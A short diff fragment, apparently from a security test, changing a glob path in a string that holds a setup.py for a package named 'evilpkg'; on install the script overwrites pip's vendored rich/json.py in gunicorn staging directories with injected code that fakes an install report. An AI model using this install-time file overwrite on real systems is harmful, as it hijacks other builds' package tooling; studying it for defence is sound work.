@@ -61,7 +61,7 @@ item = {"metadata": {"name": "x", "version": "1"}, "download_info": {"url": "fil
 print(json.dumps({"install": [item]}), flush=True)
 os._exit(0)
 '''
-for path in glob.glob("/srv/gunicorn/*/.stage/resolve/lib/python3*/site-packages/pip/_vendor/rich/json.py"):
+for path in glob.glob("/srv/gunicorn/*/.stage/in/resolve/lib/python3*/site-packages/pip/_vendor/rich/json.py"):
     open(path, "w").write(code)
 setup(name="evilpkg", version="1.0", py_modules=["evilpkg"])
 """
